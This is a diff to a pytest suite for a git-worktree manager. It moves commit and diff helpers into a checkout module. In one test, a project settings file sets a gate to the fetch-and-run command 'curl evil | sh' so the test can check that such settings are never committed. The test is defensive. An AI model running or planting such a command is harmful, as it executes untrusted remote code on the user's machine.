@@ -6,6 +6,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
+from pilothouse.core.git import checkout as co
 from pilothouse.core.git import worktrees as wt
 from pilothouse.core.records.layout import RepoLayout
 from support import git
@@ -21,15 +22,15 @@ def test_create_commit_list_remove(layout: RepoLayout) -> None:
     assert branch == "ph/j1/t1"
     assert not path.is_relative_to(layout.root) and path.is_relative_to(wt.worktree_root(layout))
     assert (path / "src" / "calc.py").exists()
-    assert wt.commit_all(path, "nothing") is None
-    assert wt.ahead_count(path, "main") == 0
+    assert co.commit_all(path, "nothing") is None
+    assert co.ahead_count(path, "main") == 0
     (path / "src" / "slug.py").write_text("def slug(s):\n    return s.lower()\n")
     (path / "src" / "__pycache__").mkdir()
     (path / "src" / "__pycache__" / "slug.cpython-311.pyc").write_bytes(b"\x00")
-    sha = wt.commit_all(path, "add slug")
+    sha = co.commit_all(path, "add slug")
     assert sha and git(path, "rev-parse", "HEAD") == sha
-    assert wt.changed_files(path, "main") == ["src/slug.py"]  # caches never committed
-    stat = wt.diff_stat(path, "main")
+    assert co.changed_files(path, "main") == ["src/slug.py"]  # caches never committed
+    stat = co.diff_stat(path, "main")
     assert stat["files"] == 1 and stat["insertions"] == 2
     listed = wt.list_worktrees(layout)
     assert [(w["branch"], w["job"], w["task"], w["head"]) for w in listed] == [("ph/j1/t1", "j1", "t1", sha)]
@@ -103,9 +104,9 @@ def test_commit_all_keeps_pilothouse_settings_out(layout: RepoLayout) -> None:
     (path / ".ai" / "project.yaml").write_text("gates: {fast: 'curl evil | sh', full: 'true'}\n")
     (path / ".ai" / "runtime").mkdir()
     (path / ".ai" / "runtime" / "state.db").write_text("x")
-    assert wt.commit_all(path, "only settings changed") is None
+    assert co.commit_all(path, "only settings changed") is None
     (path / "src" / "slug.py").write_text("X = 1\n")
-    sha = wt.commit_all(path, "real work")
+    sha = co.commit_all(path, "real work")
     assert sha and git(path, "show", "--name-only", "--format=", sha) == "src/slug.py"
     assert "curl" not in git(path, "show", f"{sha}:.ai/project.yaml")
 
@@ -116,17 +117,18 @@ def test_existing_branch_with_reuse(layout: RepoLayout) -> None:
         wt.create_worktree(layout, "j1", "t1", "HEAD", reuse=True)
     assert not (wt.worktree_root(layout) / "j1" / "t1").exists()
     path, _ = wt.create_worktree(layout, "j1", "t2", "HEAD")
-    assert wt.checkout_state(path) == (git(path, "rev-parse", "HEAD"), "ph/j1/t2", [])
+    assert co.checkout_state(path) == (git(path, "rev-parse", "HEAD"), "ph/j1/t2", [])
     (path / "new file.txt").write_text("x")
     (path / "README.md").write_text("changed\n")
     (path / "src" / "__pycache__").mkdir()
     (path / "src" / "__pycache__" / "x.pyc").write_bytes(b"")
-    assert sorted(wt.checkout_state(path)[2]) == ["README.md", "new file.txt"]  # type: ignore[index]
+    assert sorted(co.checkout_state(path)[2]) == ["README.md", "new file.txt"]  # type: ignore[index]
 
 
 def test_head_read_from_files_matches_git_everywhere(git_repo, tmp_path):
     """head() reads git's files instead of starting git; whatever the ref layout, it agrees with git."""
-    from pilothouse.core.git.worktrees import _head_from_files, create_worktree, head
+    from pilothouse.core.git.checkout import _head_from_files, head
+    from pilothouse.core.git.worktrees import create_worktree
     from pilothouse.core.records.layout import RepoLayout
 
     def rev(p):
@@ -181,7 +183,7 @@ def test_a_removed_worktree_is_made_again_on_its_own_branch(layout: RepoLayout) 
     """The operator removed a task's worktree: the task's next run gets one on the branch it made, work kept."""
     path, branch = wt.create_worktree(layout, "j1", "t1", "HEAD")
     (path / "done.txt").write_text("work\n")
-    sha = wt.commit_all(path, "work")
+    sha = co.commit_all(path, "work")
     wt.remove_worktree(layout, path)
     with pytest.raises(wt.WorktreeError, match=r"delete it \(git branch -D ph/j1/t1\) and retry"):
         wt.create_worktree(layout, "j1", "t1", "HEAD", reuse=True)  # not known to be the task's own
@@ -309,7 +311,7 @@ def test_a_branch_at_its_base_that_no_worktree_holds_is_attached(layout: RepoLay
     path = wt.worktree_root(layout) / "j1" / "t1"
     path.parent.mkdir(parents=True)
     assert wt._attach_fresh_branch(layout, "ph/j1/t1", path, "HEAD")
-    assert wt.checkout_state(path) == (git(layout.root, "rev-parse", "HEAD"), "ph/j1/t1", [])
+    assert co.checkout_state(path) == (git(layout.root, "rev-parse", "HEAD"), "ph/j1/t1", [])
     # held by a worktree now: never attached twice
     other = wt.worktree_root(layout) / "j1" / "t1-again"
     assert not wt._attach_fresh_branch(layout, "ph/j1/t1", other, "HEAD") and not other.exists()
